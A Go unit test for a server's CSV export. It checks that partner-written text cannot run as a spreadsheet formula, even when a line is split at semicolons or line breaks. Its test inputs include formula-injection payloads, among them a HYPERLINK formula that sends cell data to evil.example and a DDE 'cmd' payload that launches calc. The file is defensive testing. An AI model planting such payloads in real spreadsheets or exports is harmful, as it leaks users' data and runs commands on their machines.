package server

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVNoFormulaAfterSemicolon: a text that a partner writes (a
// follow-up's description, a violation type's label) must not run as a
// formula in the spreadsheet of the one who exports it, also where the
// spreadsheet splits the file's lines at semicolons (Excel in a French
// locale, whose list separator is ";", opens a .csv so; LibreOffice does
// when asked) or at line breaks (a reader that ignores CSV quotes): no
// part of an exported line between those separators starts like a formula.
func TestCSVNoFormulaAfterSemicolon(t *testing.T) {
	texts := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"x")`,
		"x;=1+1;y",
		"x;=cmd|' /C calc'!A0",
		"x;+1+1", "x;-1+1", "x;@SUM(A1)", "x;\t=1+1", "x;\r=1+1",
		"x\n=1+1;", "x\r\n=1+1;", "x\r=1+1",
		"=1;=2;;=3\n=4",
		"plain; text - with = signs and @ inside",
	}
	for _, text := range texts {
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		if err := w.Write(cells([]any{"fup_x", text})); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		line := buf.String()
		for _, part := range strings.FieldsFunc(line, func(r rune) bool { return r == ';' || r == '\n' || r == '\r' }) {
			if formulaLike(part) {
				t.Errorf("%q is exported as %q: its part %q runs as a formula where the line is split at semicolons or line breaks", text, line, part)
			}
		}
		// The text reads back, to its apostrophes, as it was.
		got, err := csv.NewReader(strings.NewReader(line)).Read()
		if err != nil {
			t.Fatal(err)
		}
		if strings.ReplaceAll(got[1], "'", "") != strings.ReplaceAll(strings.ReplaceAll(text, "\r\n", "\n"), "'", "") {
			t.Errorf("%q reads back as %q", text, got[1])
		}
	}
	// A text that looks like no formula is kept exactly.
	for _, text := range []string{"plain; text - with = signs and @ inside", "a;b\nc", "Le chef d'unité ; suivi fictif"} {
		if got := cell(text); got != text {
			t.Errorf("%q is exported as %q", text, got)
		}
	}
}
